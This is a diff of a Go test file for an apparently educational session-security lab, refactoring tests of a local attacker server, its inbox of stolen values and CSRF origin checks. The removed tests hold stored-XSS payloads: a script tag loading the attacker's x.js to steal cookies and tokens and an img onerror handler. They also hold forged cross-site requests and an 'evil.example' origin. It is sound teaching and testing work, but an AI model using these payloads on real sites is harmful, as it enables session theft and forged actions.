@@ -1,142 +1,89 @@
 package tests
 
 import (
-	"encoding/json"
 	"fmt"
-	"io"
-	"log/slog"
 	"net/http"
-	"net/http/httptest"
-	"os"
 	"regexp"
-	"slices"
-	"strconv"
 	"strings"
-	"sync"
 	"testing"
 
-	"github.com/chromedp/cdproto/network"
-	"github.com/chromedp/chromedp"
 	"github.com/stretchr/testify/require"
 
-	"statelab/api"
 	"statelab/api/attacker"
-	"statelab/state"
+	"statelab/tests/harness"
 )
 
-// newAttackedServer starts a server, and the attacker of its classroom at a port
-// of its own.
-func newAttackedServer(t testing.TB, options ...option) (*server, site) {
-	t.Helper()
-	h := httptest.NewUnstartedServer(nil)
-	s := newServer(t, append(options, func(c *api.Config) { c.Attacker = attacker.New(h.Listener.Addr(), c.Now) })...)
-	return s, s.attackedAt(t, h)
-}
-
-// attackedAt starts the attacker's pages, aimed at the server.
-func (s *server) attackedAt(t testing.TB, h *httptest.Server) site {
-	t.Helper()
-	victim := strings.Replace(s.url, "127.0.0.1", "localhost", 1)
-	h.Config.Handler = s.config.Attacker.Against(s.statelab.(interface {
-		Victim(origin string) attacker.Victim
-	}).Victim(victim))
-	h.Start()
-	t.Cleanup(h.Close)
-	return site{h}
-}
-
-// asks sends a request to the attacker.
-func (s site) asks(t testing.TB, method, address, body string, change ...func(*http.Request)) (*http.Response, string) {
-	t.Helper()
-	r, err := http.NewRequestWithContext(t.Context(), method, address, strings.NewReader(body))
-	require.NoError(t, err)
-	for _, f := range change {
-		f(r)
-	}
-	a, err := transport.RoundTrip(r)
-	require.NoError(t, err)
-	defer func() { _ = a.Body.Close() }()
-	text, err := io.ReadAll(a.Body)
-	require.NoError(t, err)
-	return a, string(text)
-}
-
-// inbox returns what the attacker has been sent, as the classroom tells it.
-func (s *server) inbox(t testing.TB) []attacker.Entry {
-	t.Helper()
-	var in struct{ Entries []attacker.Entry }
-	require.NoError(t, json.Unmarshal(s.pull(t, "GET", "inbox", nil).is(http.StatusOK).body, &in))
-	return in.Entries
-}
-
 func TestTheInbox(t *testing.T) {
-	s, thief := newAttackedServer(t)
-	here := thief.as("127.0.0.1")
-	require.Equal(t, here, s.pull(t, "GET", "inbox", nil).text("origin"))
-	require.Empty(t, s.inbox(t))
+	t.Parallel()
+	s, thief := harness.NewAttackedServer(t)
+	here := thief.As("127.0.0.1")
+	require.Equal(t, here, s.Pull(t, "GET", "inbox", nil).Text("origin"))
+	require.Empty(t, s.Inbox(t))
 	send := func(body string, status int) {
 		t.Helper()
-		a, _ := thief.asks(t, "POST", here+"/inbox", body)
+		a, _ := thief.Asks(t, "POST", here+"/inbox", body)
 		require.Equal(t, status, a.StatusCode, body)
 	}
 	send(`{"strategy":"cookie","kind":"cookie","value":"a=<script>b"}`, 204)
-	a, _ := thief.asks(t, "GET", thief.as("localhost")+"/c?a=%3Cb%3E+c", "")
+	a, _ := thief.Asks(t, "GET", thief.As("localhost")+"/c?a=%3Cb%3E+c", "")
 	require.Equal(t, 204, a.StatusCode)
-	now := s.clock.Now()
-	require.Equal(t, []attacker.Entry{{At: now, Kind: "query", Value: "a=<b> c"}, {At: now, Strategy: "cookie", Kind: "cookie", Value: "a=<script>b"}}, s.inbox(t), "the newest first")
-	_, page := thief.asks(t, "GET", here+"/inbox", "")
+	now := s.Clock.Now()
+	require.Equal(t, []attacker.Entry{{At: now, Kind: "query", Value: "a=<b> c"}, {At: now, Strategy: "cookie", Kind: "cookie", Value: "a=<script>b"}}, s.Inbox(t), "the newest first")
+	_, page := thief.Asks(t, "GET", here+"/inbox", "")
 	require.Contains(t, page, "a=&lt;script&gt;b")
 	require.NotContains(t, page, "a=<script>b")
 
 	for _, wrong := range []string{"", "[]", "x", `{"strategy":"nothing","kind":"cookie","value":"a"}`, `{"strategy":"cookie","kind":"nothing","value":"a"}`} {
 		send(wrong, 400)
 	}
-	send(`{"kind":"cookie","value":"`+long("x", 64<<10)+`"}`, 413)
-	require.Len(t, s.inbox(t), 2)
+	send(`{"kind":"cookie","value":"`+harness.Long("x", 64<<10)+`"}`, 413)
+	require.Len(t, s.Inbox(t), 2)
 
-	send(`{"kind":"cookie","value":"`+long("é", attacker.MaxValue)[:attacker.MaxValue*2-4]+`"}`, 204)
-	require.Equal(t, long("é", attacker.MaxValue/2), s.inbox(t)[0].Value)
+	send(`{"kind":"cookie","value":"`+harness.Long("é", attacker.MaxValue)[:attacker.MaxValue*2-4]+`"}`, 204)
+	require.Equal(t, harness.Long("é", attacker.MaxValue/2), s.Inbox(t)[0].Value)
 	for i := range attacker.MaxEntries {
 		send(fmt.Sprintf(`{"strategy":"token","kind":"ride","value":"%d"}`, i), 204)
 	}
-	entries := s.inbox(t)
+	entries := s.Inbox(t)
 	require.Len(t, entries, attacker.MaxEntries)
 	require.Equal(t, "99", entries[0].Value)
 	require.Equal(t, "0", entries[attacker.MaxEntries-1].Value, "older ones are gone")
 
-	s.set(t, object{"origin_check": false})
-	s.pull(t, "POST", "restart", nil).is(http.StatusNoContent)
-	require.Len(t, s.inbox(t), attacker.MaxEntries, "the attacker is no part of the server")
-	s.pull(t, "DELETE", "inbox", nil).is(http.StatusNoContent)
-	require.Empty(t, s.inbox(t))
+	s.Set(t, harness.Object{"origin_check": false})
+	s.Pull(t, "POST", "restart", nil).Is(http.StatusNoContent)
+	require.Len(t, s.Inbox(t), attacker.MaxEntries, "the attacker is no part of the server")
+	s.Pull(t, "DELETE", "inbox", nil).Is(http.StatusNoContent)
+	require.Empty(t, s.Inbox(t))
 	send(`{"kind":"cookie","value":"a"}`, 204)
-	s.reset(t)
-	require.Empty(t, s.inbox(t))
+	s.Reset(t)
+	require.Empty(t, s.Inbox(t))
 
 	send(`{"kind":"cookie","value":"a"}`, 204)
-	a, _ = thief.asks(t, "POST", here+"/inbox/empty", "", from("cross-site", "http://evil.example"))
+	a, _ = thief.Asks(t, "POST", here+"/inbox/empty", "", harness.From("cross-site", "http://evil.example"))
 	require.Equal(t, 403, a.StatusCode)
-	require.Len(t, s.inbox(t), 1)
-	a, _ = thief.asks(t, "POST", here+"/inbox/empty", "", from("same-origin", here))
+	require.Len(t, s.Inbox(t), 1)
+	a, _ = thief.Asks(t, "POST", here+"/inbox/empty", "", harness.From("same-origin", here))
 	require.Equal(t, 303, a.StatusCode)
-	require.Empty(t, s.inbox(t))
+	require.Empty(t, s.Inbox(t))
 }
 
 func TestWithoutAnAttackerTheInboxIsEmpty(t *testing.T) {
-	s := newServer(t)
-	a := s.pull(t, "GET", "inbox", nil).is(http.StatusOK)
-	require.JSONEq(t, `{"origin":null,"entries":[]}`, string(a.body))
-	s.pull(t, "DELETE", "inbox", nil).is(http.StatusNoContent)
-	s.pull(t, "POST", "reset", nil).is(http.StatusNoContent)
-	s.client(t, "").do("DELETE", "/classroom/inbox", nil, from("same-site", "http://localhost:9090")).is(http.StatusForbidden, "csrf_blocked")
+	t.Parallel()
+	s := harness.NewServer(t)
+	a := s.Pull(t, "GET", "inbox", nil).Is(http.StatusOK)
+	require.JSONEq(t, `{"origin":null,"entries":[]}`, string(a.Body))
+	s.Pull(t, "DELETE", "inbox", nil).Is(http.StatusNoContent)
+	s.Pull(t, "POST", "reset", nil).Is(http.StatusNoContent)
+	s.Client(t, "").Do("DELETE", "/classroom/inbox", nil, harness.From("same-site", "http://localhost:9090")).Is(http.StatusForbidden, "csrf_blocked")
 }
 
 func TestTheAttackersPages(t *testing.T) {
-	s, thief := newAttackedServer(t)
-	victim := strings.Replace(s.url, "127.0.0.1", "localhost", 1)
+	t.Parallel()
+	s, thief := harness.NewAttackedServer(t)
+	victim := strings.Replace(s.URL, "127.0.0.1", "localhost", 1)
 	for host, site := range map[string]string{"127.0.0.1": "cross-site", "localhost": "same-site"} {
 		for _, path := range []string{"/", "/csrf", "/inbox", "/page.css", "/x.js", "/csrf.js"} {
-			a, text := thief.asks(t, "GET", thief.as(host)+path, "")
+			a, text := thief.Asks(t, "GET", thief.As(host)+path, "")
 			require.Equal(t, 200, a.StatusCode, path)
 			policy := a.Header.Get("Content-Security-Policy")
 			require.Equal(t, "default-src 'none'; script-src 'self'; style-src 'self'; img-src data:; connect-src "+victim+"; form-action 'self' "+victim+
@@ -148,485 +95,46 @@ func TestTheAttackersPages(t *testing.T) {
 			}
 			if !strings.Contains(path, ".") {
 				require.Contains(t, text, `<html lang="en">`)
-				_, text = thief.asks(t, "GET", thief.as(host)+path, "", header("Accept-Language", "ko-KR,en"))
+				_, text = thief.Asks(t, "GET", thief.As(host)+path, "", harness.Header("Accept-Language", "ko-KR,en"))
 				require.Contains(t, text, `<html lang="ko">`)
-				_, text = thief.asks(t, "GET", thief.as(host)+path+"?lang=en", "", header("Accept-Language", "ko"))
+				_, text = thief.Asks(t, "GET", thief.As(host)+path+"?lang=en", "", harness.Header("Accept-Language", "ko"))
 				require.Contains(t, text, `<html lang="en">`)
 			}
 		}
 	}
-	_, text := thief.asks(t, "GET", thief.as("localhost")+"/?lang=ko", "")
+	_, text := thief.Asks(t, "GET", thief.As("localhost")+"/?lang=ko", "")
 	require.Contains(t, text, "다른 사람 사이트에서 하지 마세요")
-	for _, slug := range strategies {
+	for _, slug := range harness.Strategies {
 		require.Contains(t, text, victim+"/"+slug+"/guestbook")
 	}
-	for _, host := range []string{"evil.example", "localhost", "127.0.0.1.nip.io:" + thief.as("")[len("http://:"):]} {
-		a, _ := thief.asks(t, "GET", thief.as("127.0.0.1")+"/inbox", "", func(r *http.Request) { r.Host = host })
+	for _, host := range []string{"evil.example", "localhost", "127.0.0.1.nip.io:" + thief.As("")[len("http://:"):]} {
+		a, _ := thief.Asks(t, "GET", thief.As("127.0.0.1")+"/inbox", "", func(r *http.Request) { r.Host = host })
 		require.Equal(t, http.StatusMisdirectedRequest, a.StatusCode, host)
 	}
 	for _, name := range []string{"Forwarded", "Via", "X-Forwarded-For", "X-Forwarded-Host"} {
 		for _, path := range []string{"/inbox", "/x.js", "/c?x"} {
-			a, _ := thief.asks(t, "GET", thief.as("localhost")+path, "", header(name, "203.0.113.7"))
+			a, _ := thief.Asks(t, "GET", thief.As("localhost")+path, "", harness.Header(name, "203.0.113.7"))
 			require.Equal(t, http.StatusMisdirectedRequest, a.StatusCode, "%s %s", name, path)
 		}
 	}
-	a, _ := thief.asks(t, "GET", thief.as("127.0.0.1")+"/attacker.go", "")
+	a, _ := thief.Asks(t, "GET", thief.As("127.0.0.1")+"/attacker.go", "")
 	require.Equal(t, 404, a.StatusCode)
-	a, _ = thief.asks(t, "PUT", thief.as("127.0.0.1")+"/inbox", "")
+	a, _ = thief.Asks(t, "PUT", thief.As("127.0.0.1")+"/inbox", "")
 	require.Equal(t, 405, a.StatusCode)
 }
 
 func TestTheAttackerHasAListenerOfItsOwn(t *testing.T) {
-	p := start(t, t.TempDir(), nil, "--listen", "localhost:0", "--attacker", "127.0.0.1:0")
-	line := regexp.MustCompile(`attacker  (http://127\.0\.0\.1:\d+) and (http://localhost:\d+)\n`).FindStringSubmatch(p.banner)
-	require.NotNil(t, line, p.banner)
-	require.Equal(t, line[1], p.client("").do("GET", "/classroom/inbox", nil).is(http.StatusOK).text("origin"))
+	t.Parallel()
+	p := harness.Start(t, t.TempDir(), nil, "--listen", "localhost:0", "--attacker", "127.0.0.1:0")
+	line := regexp.MustCompile(`attacker  (http://127\.0\.0\.1:\d+) and (http://localhost:\d+)\n`).FindStringSubmatch(p.Banner)
+	require.NotNil(t, line, p.Banner)
+	require.Equal(t, line[1], p.Client("").Do("GET", "/classroom/inbox", nil).Is(http.StatusOK).Text("origin"))
 	for _, origin := range line[1:] {
-		_, page := site{}.asks(t, "GET", origin+"/", "")
-		require.Contains(t, page, p.base+"/session/guestbook")
+		_, page := harness.Site{}.Asks(t, "GET", origin+"/", "")
+		require.Contains(t, page, p.Base+"/session/guestbook")
 	}
 	const loot = "stolen-1-2-3-4-5-6-7-8-9-10-11-12"
-	p.canary.remember(loot, tail)
-	_, _ = site{}.asks(t, "GET", line[1]+"/c?"+loot, "")
-	require.Contains(t, string(p.client("").do("GET", "/classroom/inbox", nil).is(http.StatusOK).body), loot)
-}
-
-// The attacker's pages and the guestbook can be used by everybody.
-func TestTheAttackerIsAccessible(t *testing.T) {
-	script, chromium := axe(t), browser(t)
-	s, thief := newAttackedServer(t)
-	s.login(t, "session", bob, bobPassword).patch(object{"nickname": "Bob"}).is(http.StatusOK)
-	_, _ = thief.asks(t, "GET", thief.as("localhost")+"/c?"+long("x", 200), "")
-	for _, language := range both {
-		v := chromium.visit(t, s, language)
-		for _, address := range []string{thief.as("localhost") + "/", thief.as("127.0.0.1") + "/csrf", thief.as("localhost") + "/inbox", v.origin + "/session/guestbook"} {
-			v.goes(address)
-			require.Equal(t, language, js[string](v, `document.documentElement.lang`))
-			v.does(script)
-			for _, a := range appearances {
-				v.isAccessible(a)
-			}
-		}
-		v.goes(thief.as("localhost") + "/csrf")
-		v.loads(chromedp.Evaluate[chromedp.Void](`document.querySelector('[data-language]').click()`))
-		require.NotEqual(t, language, js[string](v, `document.documentElement.lang`), "a link leads to the other language")
-		v.loads(chromedp.Evaluate[chromedp.Void](`document.querySelector('[data-other]').click()`))
-		require.Equal(t, thief.as("127.0.0.1"), js[string](v, `location.origin`))
-	}
-}
-
-// signsInWith logs alice in with strategies, by a script of the victim's own. A
-// token that nobody keeps is nowhere.
-func (v *visitor) signsInWith(slugs ...string) {
-	v.t.Helper()
-	v.goes(v.origin + "/docs") // a page that asks for nothing itself
-	statuses := js[[]int](v, fmt.Sprintf(`Promise.all(%s.map((slug) => fetch('/' + slug + '/login', {
-		method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"username":%q,"password":%q}'}).then(({status}) => status)))`,
-		mustJSON(slugs), alice, alicePassword))
-	require.Equal(v.t, slices.Repeat([]int{http.StatusOK}, len(slugs)), statuses)
-}
-
-func mustJSON(x any) string {
-	text, err := json.Marshal(x)
-	if err != nil {
-		panic(err)
-	}
-	return string(text)
-}
-
-// holds returns a client with the cookies that the browser would send to a
-// strategy.
-func (v *visitor) holds(slug string) *client {
-	v.t.Helper()
-	c := v.s.client(v.t, slug)
-	for _, cookie := range call(v, network.GetCookies, network.GetCookiesParams{URLs: []string{v.origin + "/" + slug + "/profile"}}).Cookies {
-		c.cookies[cookie.Name] = cookie.Value
-		v.s.canary.remember(cookie.Value, tail)
-	}
-	return c
-}
-
-// A way is how a page of another origin can send a request without leave, by the
-// attribute of the attacker's buttons.
-type way struct {
-	name, by      string // by: as the README's table has it
-	method, route string
-	arrives       int // the status where the login goes along
-}
-
-var (
-	link       = way{"link", "a link", "GET", "profile", http.StatusOK}
-	form       = way{"form", "a form", "POST", "spend", http.StatusUnsupportedMediaType}
-	textForm   = way{"text", "a form", "POST", "spend", http.StatusUnsupportedMediaType}
-	emptyForm  = way{"empty", "a form", "POST", "logout", http.StatusNoContent}
-	signInForm = way{"signin", "a form", "POST", "", http.StatusSeeOther}
-	textFetch  = way{"fetch-text", "a script", "POST", "spend", http.StatusUnsupportedMediaType}
-	jsonFetch  = way{"fetch-json", "a script", "POST", "spend", 0}
-	emptyFetch = way{"fetch-empty", "a script", "POST", "logout", http.StatusNoContent}
-)
-
-// carries says what a browser does: whether it adds a login to a request that a
-// page of another origin sends in one of these ways.
-func carries(traits state.Traits, w way, sameSite string, sameSiteAsVictim bool) bool {
-	if !traits.SameSite {
-		sameSite = ""
-	}
-	switch {
-	case !traits.SentByBrowser:
-		return false
-	case sameSiteAsVictim, sameSite == "None":
-		return true
-	case sameSite == "Strict":
-		return false
-	case w == link:
-		return true
-	}
-	return sameSite == "" && w.by == "a form" // Chromium: as Lax, but for the first two minutes of a cookie
-}
-
-// A victim has a login in every strategy, and comes to the attacker.
-type victim struct {
-	*visitor
-	log     *witness
-	schemes bool               // the victim's pages are encrypted, and the attacker's are not
-	bearers map[string]*client // what pages, and no browser, would keep
-	// Where a logout that finds no login clears the cookie all the same: SameSite
-	// keeps the login out of a request, and not the answer out of the browser.
-	clears map[string]bool
-	thief  site
-}
-
-// newVictim starts a server with this SameSite, its attacker, and a visitor.
-// Cookies with SameSite=None have to be Secure, so that one is encrypted.
-func newVictim(t *testing.T, chromium program, sameSite string) *victim {
-	t.Helper()
-	log, h := &witness{}, httptest.NewUnstartedServer(nil)
-	s := newServer(t, func(c *api.Config) {
-		c.Attacker = attacker.New(h.Listener.Addr(), c.Now)
-		c.Logger = slog.New(slog.NewTextHandler(log, nil))
-	})
-	v := &victim{log: log, schemes: sameSite == "None", bearers: map[string]*client{}, clears: map[string]bool{}}
-	for _, slug := range strategies {
-		v.clears[slug] = len(s.client(t, slug).post("logout", nil).cookies) > 0
-		if promises()[slug].Transport == state.TransportBearer {
-			v.bearers[slug] = s.login(t, slug, alice, alicePassword)
-		}
-	}
-	s.set(t, object{"same_site": sameSite})
-	if v.schemes {
-		s = s.overTLS(t)
-	}
-	v.thief = s.attackedAt(t, h)
-	v.visitor = chromium.visit(t, s, "en")
-	return v
-}
-
-// user is whose login the browser has with a strategy, "" for nobody's. None of
-// them has spent anything.
-func (v *victim) user(slug string) string {
-	v.t.Helper()
-	c := v.holds(slug)
-	if held := v.bearers[slug]; held != nil {
-		c = held
-	}
-	a := c.get("profile")
-	if a.status == http.StatusOK {
-		require.Equal(v.t, int64(100), a.number("state.credits"), slug)
-	}
-	return a.text("user.username")
-}
-
-// near says whether the attacker is of the victim's site by this name: a scheme
-// makes another site, and a port does not.
-func (v *victim) near(host string) bool { return host == "localhost" && !v.schemes }
-
-// comes signs in, and comes to the attacker by one of the two names.
-func (v *victim) comes(host string) {
-	v.t.Helper()
-	v.signsInWith(strategies...)
-	v.goes(v.thief.as(host) + "/csrf")
-}
-
-// presses presses a button that is there for one strategy, and returns the status
-// that the server has answered with. Each has a tab of its own: in one that is still
-// busy with the last answer, the next request can get lost.
-func (v *victim) presses(w way, slug string) int {
-	v.t.Helper()
-	v.log.forget()
-	v.does(fmt.Sprintf(`{
-		const at = document.querySelector('[data-way=%q][data-slug=%q]'), name = crypto.randomUUID();
-		const before = globalThis.tab;
-		globalThis.tab = open('', name);
-		(at.form ?? at).target = name;
-		at.click();
-		before?.close();
-	}`, w.name, slug))
-	return v.answered(w, slug)
-}
-
-// answered is the status of the answer to a request.
-func (v *victim) answered(w way, slug string) int {
-	v.t.Helper()
-	line := v.log.saw(v.t, w.method, "/"+slug+"/"+w.route)
-	status, err := strconv.Atoi(regexp.MustCompile(`status=(\d+)`).FindStringSubmatch(line)[1])
-	require.NoError(v.t, err)
-	return status
-}
-
-// runs has the attacker's script send to all strategies, and hear nothing.
-func (v *victim) runs(w way) {
-	v.t.Helper()
-	v.log.forget()
-	v.does(fmt.Sprintf(`{ const at = document.querySelector('[data-way=%q]'); at.ariaBusy = 'true'; at.click(); }`, w.name))
-	v.until(`!document.querySelector('[aria-busy=true]')`)
-	for _, seen := range v.texts("output") {
-		require.Regexp(v.t, `^(TypeError: Failed to fetch|opaque)$`, seen, "the answer is not for this page")
-	}
-}
-
-// TestForgedRequests has a browser with a login in every strategy visit the
-// attacker from both of its origins, and press the buttons there, with nothing but
-// SameSite in the way. What comes of it is what the traits say, and the README's
-// table.
-func TestForgedRequests(t *testing.T) {
-	chromium := browser(t, "ignore-certificate-errors", "disable-popup-blocking", "process-per-site")
-	var mu sync.Mutex
-	found := map[string]map[bool]bool{} // whether the login went along, by cell of the table
-	cell := func(host string, w way, column string) string { return host + ", " + w.by + ", " + column }
-	t.Run("unchecked", func(t *testing.T) {
-		for sameSite, navigations := range map[string][]way{"Lax": {link, form, textForm}, "Strict": {link}, "None": {link}} {
-			t.Run(sameSite, func(t *testing.T) {
-				t.Parallel()
-				v := newVictim(t, chromium, sameSite)
-				v.s.set(t, object{"origin_check": false})
-				for _, host := range []string{"127.0.0.1", "localhost"} {
-					expect := func(slug string, w way, status int) (carried bool) {
-						t.Helper()
-						p, want := promises()[slug], http.StatusUnauthorized
-						if carried = carries(p.Traits, w, sameSite, v.near(host)); carried {
-							want = w.arrives
-						}
-						require.Equal(t, want, status, "%s from %s: %v", slug, host, w)
-						column := "none given"
-						switch {
-						case !p.SentByBrowser:
-							column = "token"
-						case p.SameSite:
-							column = sameSite
-						case v.schemes:
-							return carried // the table has these without encryption
-						}
-						mu.Lock()
-						defer mu.Unlock()
-						c := cell(host, w, column)
-						if found[c] == nil {
-							found[c] = map[bool]bool{}
-						}
-						found[c][status == w.arrives] = true
-						return carried
-					}
-					v.comes(host)
-					for _, w := range navigations {
-						for _, slug := range strategies {
-							expect(slug, w, v.presses(w, slug))
-						}
-					}
-					v.runs(textFetch)
-					for _, slug := range strategies {
-						expect(slug, textFetch, v.answered(textFetch, slug))
-					}
-					v.runs(jsonFetch)
-					require.NotContains(t, v.log.String(), "method=POST", "what needs leave is not sent without")
-					for _, slug := range strategies {
-						require.Equal(t, alice, v.user(slug), "%s from %s: nothing has been done", slug, host)
-					}
-
-					v.runs(emptyFetch)
-					for _, slug := range strategies {
-						want := alice
-						if expect(slug, emptyFetch, v.answered(emptyFetch, slug)) {
-							want = "" // a logout takes no body
-						}
-						require.Equal(t, want, v.user(slug), "%s from %s, by a script", slug, host)
-					}
-					v.comes(host)
-					for _, slug := range strategies {
-						want := alice
-						if expect(slug, emptyForm, v.presses(emptyForm, slug)) || v.clears[slug] {
-							want = ""
-						}
-						require.Eventually(t, func() bool { return v.user(slug) == want }, patience, patience/1000, "%s from %s, by a form", slug, host)
-					}
-
-					// A form that signs in needs no login to ride on.
-					v.comes(host)
-					for _, slug := range strategies {
-						if promises()[slug].page {
-							require.Equal(t, http.StatusSeeOther, v.presses(signInForm, slug))
-							require.Eventually(t, func() bool { return v.user(slug) == bob }, patience, patience/1000, "the victim is the attacker now")
-						}
-					}
-				}
-				v.console() // what the browser has said of all this
-			})
-		}
-	})
-	const marker = "<!-- forged requests: made by TestForgedRequests -->\n"
-	table := marker + "| from | by | `SameSite=Lax` | `Strict` | `None`, over HTTPS | none given | `token` |\n|---|---|---|---|---|---|---|\n"
-	for _, from := range [][2]string{{"127.0.0.1", "another site"}, {"localhost", "the same site"}} {
-		for _, w := range []way{link, emptyForm, textFetch} {
-			table += "| `" + from[0] + ":9090`, " + from[1] + " | " + w.by
-			for _, column := range []string{"Lax", "Strict", "None", "none given", "token"} {
-				outcomes := found[cell(from[0], w, column)]
-				require.Len(t, outcomes, 1, "%s: all strategies alike", cell(from[0], w, column))
-				table += map[bool]string{true: " | yes", false: " | no"}[outcomes[true]]
-			}
-			table += " |\n"
-		}
-	}
-	text := readme(t)
-	if os.Getenv("STATELAB_UPDATE") == "readme" {
-		begin := strings.Index(text, marker)
-		end := begin + strings.Index(text[begin:], "\n\n")
-		require.NoError(t, os.WriteFile("../README.md", []byte(text[:begin]+strings.TrimSuffix(table, "\n")+text[end:]), 0o600))
-		return
-	}
-	if !strings.Contains(text, table) { // require.Contains would print all of the README
-		t.Fatalf("the README does not say:\n%s", table)
-	}
-}
-
-// TestForgedRequestsAreBlocked is the same with the check of origins, as a server
-// starts: from either origin, in any way, to a browser that adds every cookie to
-// everything.
-func TestForgedRequestsAreBlocked(t *testing.T) {
-	v := newVictim(t, browser(t, "ignore-certificate-errors", "disable-popup-blocking", "process-per-site"), "None")
-	for _, host := range []string{"127.0.0.1", "localhost"} {
-		v.comes(host)
-		for _, w := range []way{form, textForm, emptyForm, signInForm} {
-			for _, slug := range strategies {
-				if w != signInForm || promises()[slug].page {
-					require.Equal(t, http.StatusForbidden, v.presses(w, slug), "%s from %s: %v", slug, host, w)
-				}
-			}
-		}
-		for _, w := range []way{textFetch, emptyFetch} {
-			v.runs(w)
-			for _, slug := range strategies {
-				require.Equal(t, http.StatusForbidden, v.answered(w, slug), "%s from %s: %v", slug, host, w)
-			}
-		}
-		v.runs(jsonFetch)
-		require.NotContains(t, v.log.String(), "method=POST", "what needs leave is not sent without")
-		for _, slug := range strategies {
-			require.Equal(t, alice, v.user(slug), slug)
-		}
-	}
-	v.console() // what the browser has said of all this
-}
-
-// TestTheftAndRide has bob write a script into a guestbook, and alice look at it.
-func TestTheftAndRide(t *testing.T) {
-	chromium := browser(t)
-	for _, stored := range []bool{false, true} {
-		for _, slug := range strategies {
-			p := promises()[slug]
-			if stored && p.Transport != state.TransportBearer {
-				continue // the browser keeps it, not the page
-			}
-			t.Run(fmt.Sprint(slug, ", in localStorage: ", stored), func(t *testing.T) {
-				t.Parallel()
-				s, thief := newAttackedServer(t)
-				s.login(t, slug, bob, bobPassword).patch(object{"nickname": "<script src=" + strings.TrimPrefix(thief.as("127.0.0.1"), "http:") + "/x.js></script>"}).is(http.StatusOK)
-
-				v := chromium.visit(t, s, "en")
-				if p.Transport == state.TransportBearer {
-					v.opens("/" + slug + "/")
-					if stored {
-						v.clicks(testid("keep-local"))
-					}
-					v.acts("login")
-				} else {
-					v.signsInWith(slug)
-				}
-				victim := v.holds(slug)
-				if stored {
-					victim.access = js[string](v, fmt.Sprintf(`JSON.parse(localStorage.getItem('statelab.%s')).access_token`, slug))
-					s.canary.remember(victim.access, tail)
-				}
-				require.Equal(t, p.SentByBrowser || stored, victim.held() != "")
-
-				v.goes(v.origin + "/" + slug + "/guestbook")
-				require.Equal(t, p.SentByBrowser, len(v.texts("[data-field=user]")) == 1, "the page greets whom the browser brings along")
-				var entries []attacker.Entry
-				require.Eventually(t, func() bool {
-					entries = s.inbox(t)
-					return len(entries) > 0 && entries[0].Kind == "ride"
-				}, patience, patience/1000)
-
-				rides := p.SentByBrowser || stored
-				status, credits := http.StatusUnauthorized, int64(100)
-				if rides {
-					status, credits = http.StatusOK, 70
-				}
-				require.Equal(t, fmt.Sprintf("POST /%s/spend: %d", slug, status), entries[0].Value)
-				if p.SentByBrowser {
-					require.Equal(t, credits, v.holds(slug).get("profile").is(http.StatusOK).number("state.credits"), "the ride has spent")
-				}
-
-				readable := p.SentByBrowser && !p.HTTPOnly || stored
-				loot := ""
-				for _, e := range entries {
-					require.Equal(t, slug, e.Strategy)
-					require.Equal(t, s.clock.Now(), e.At.UTC())
-					if strings.Contains(e.Value, victim.held()) && victim.held() != "" {
-						loot = e.Value
-					}
-				}
-				require.Equal(t, readable, loot != "", "%v", entries)
-				if !readable {
-					for name, cookie := range victim.cookies {
-						require.NotContains(t, fmt.Sprint(entries), cookie, name)
-					}
-					return
-				}
-				// The thief has nothing but the text.
-				copied := s.client(t, slug)
-				if stored {
-					var all map[string]string
-					require.NoError(t, json.Unmarshal([]byte(loot), &all))
-					var tokens struct {
-						Access string `json:"access_token"`
-					}
-					require.NoError(t, json.Unmarshal([]byte(all["statelab."+slug]), &tokens))
-					copied.hold(tokens.Access)
-				} else {
-					for pair := range strings.SplitSeq(loot, "; ") {
-						name, value, _ := strings.Cut(pair, "=")
-						if name == copied.cookieName() {
-							copied.hold(value)
-						}
-					}
-				}
-				require.True(t, copied.opens(alice), "a copy is as good as the original")
-			})
-		}
-	}
-}
-
-// An event handler needs no attacker, and nothing that is loaded from anywhere.
-func TestAnInlineScriptRunsInTheGuestbookAlone(t *testing.T) {
-	chromium := browser(t)
-	s := newServer(t)
-	v := chromium.visit(t, s, "en")
-	const hostile = `<img src=x onerror="document.title='mine'">`
-	each(t, func(t *testing.T, slug string) {
-		s.login(t, slug, bob, bobPassword).patch(object{"nickname": hostile}).is(http.StatusOK)
-		v.goes(v.origin + "/" + slug + "/guestbook")
-		v.until(`document.title === 'mine'`)
-		v.console() // there is no image x
-		v.goes(v.origin + "/" + slug + "/")
-		require.NotEqual(t, "mine", js[string](v, `document.title`))
-		require.Zero(t, js[int](v, `document.querySelectorAll('img').length`))
-	})
+	p.Canary.Remember(loot, harness.Tail)
+	_, _ = harness.Site{}.Asks(t, "GET", line[1]+"/c?"+loot, "")
+	require.Contains(t, string(p.Client("").Do("GET", "/classroom/inbox", nil).Is(http.StatusOK).Body), loot)
 }
